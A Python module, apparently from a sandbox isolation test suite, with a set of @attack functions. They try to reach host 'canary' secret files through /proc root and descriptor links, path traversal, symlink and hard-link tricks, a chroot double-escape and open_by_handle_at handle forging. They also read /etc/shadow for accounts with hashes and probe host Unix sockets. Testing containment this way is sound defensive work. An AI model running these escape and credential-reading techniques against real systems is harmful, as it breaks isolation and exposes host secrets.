# The host's files. S["canaries"] are paths on the host of files that hold S["secret"].
UP = "/.." * 32


@attack
def paths():
    forms = ["%s", UP + "%s", "/tmp" + UP + "%s", "/proc/self/root%s", "/proc/self/cwd" + UP + "%s",
             "/proc/thread-self/root%s", "/dev/fd/0" + UP + "%s", "//./%s", "/host%s", "/mnt%s", "/.old%s", "/oldroot%s"]
    return [form % path for form in forms for path in S["canaries"] if holds_secret(form % path)]


@attack
def roots_of_processes():
    found = []
    for process in filter(str.isdigit, os.listdir("/proc")):
        for door in ("root", "cwd", "root/proc/1/root", "cwd" + UP):
            for path in S["canaries"]:
                if holds_secret("/proc/%s/%s%s" % (process, door, path)):
                    found.append("/proc/%s/%s" % (process, door))
    return found


@attack
def inherited_descriptors():
    found = []
    for process in ("self", "1"):
        try:
            numbers = os.listdir("/proc/%s/fd" % process)
        except OSError:
            continue
        for number in numbers:
            link = "/proc/%s/fd/%s" % (process, number)
            found += [link + path for path in S["canaries"] if holds_secret(link + UP + path) or holds_secret(link + path)]
    # Standard streams, and two of this program's own.
    extra = [number for number in range(3, 256) if readable_link(number)]
    return found + (["descriptors %s" % extra] if len(extra) > 2 else [])


def readable_link(number):
    try:
        return os.readlink("/proc/self/fd/%d" % number)
    except OSError:
        return None


@attack
def links():
    found, at = [], directory().decode()
    for number, path in enumerate(S["canaries"]):
        for target in (path, UP + path, "/proc/1/root" + path, "/proc/self/root" + path):
            link = "%s/%d" % (at, number)
            os.symlink(target, link)
            if holds_secret(link):
                found.append("%s -> %s" % (link, target))
            os.unlink(link)
        try:
            os.link(path, at + "/hard")
            found.append("a hard link to " + path)
            os.unlink(at + "/hard")
        except OSError:
            pass
    os.rmdir(at)
    return found


@attack
def chroot_escape():
    at = directory()
    top = os.open("/", os.O_RDONLY)
    try:
        os.chroot(at)
    except OSError:
        return []
    finally:
        os.rmdir(at.lstrip(b"/"), dir_fd=top)
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return [path for path in S["canaries"] if holds_secret(path)]


@attack
def file_handles():
    # The root directory of a filesystem has inode 2, and generation 0.
    handle = struct.pack("=IiII", 8, 1, 2, 0)
    codes = {}
    for mount in ("/", "/proc", "/etc", "/usr", "/dev"):
        where = os.open(mount, os.O_RDONLY)
        codes["open_by_handle_at " + mount] = call(304, 265, where, P(handle), os.O_RDONLY)
    return through(**codes)


@attack
def search():
    names = {os.path.basename(path) for path in S["canaries"]}
    found = []
    for top in os.listdir("/"):
        if top in ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin"):
            continue
        for at, directories, files in os.walk("/" + top):
            if at.count("/") > 6:
                directories.clear()
            found += [os.path.join(at, name) for name in files + directories if name in names]
    return found


@attack
def passwords():
    found = []
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/shadow-"):
        try:
            lines = open(path).read().splitlines()
        except OSError:
            continue
        found += [line.split(":")[0] for line in lines if line.split(":")[1:2] and line.split(":")[1][:1] not in ("*", "!", "", "x")]
    return found


@attack
def closed_files():
    # What only root and a group may read on the host must not come in with its /usr.
    found = []
    for at, _, files in os.walk("/usr"):
        for name in files:
            path = os.path.join(at, name)
            try:
                about = os.lstat(path)
                if not stat.S_ISREG(about.st_mode) or about.st_mode & stat.S_IROTH or not about.st_size:
                    continue
                if open(path, "rb").read(1):
                    found.append(path)
            except OSError:
                pass
    return found


@attack
def sockets():
    return answering(S["sockets"] + ["\0" + name for name in S["abstract"]])


@attack
def sockets_lying_about():
    named = []
    for top in ("/run", "/tmp", "/var", "/dev", "/srv", "/root", "/home"):
        for at, _, files in os.walk(top):
            named += [os.path.join(at, name) for name in files if stat.S_ISSOCK(kind(os.path.join(at, name)))]
    return answering(named)


def answering(paths):
    found = []
    for path in paths:
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.settimeout(2)
                client.connect(path)
                found.append(path.replace("\0", "@"))
        except OSError:
            pass
    return found


def kind(path):
    try:
        return os.lstat(path).st_mode
    except OSError:
        return 0
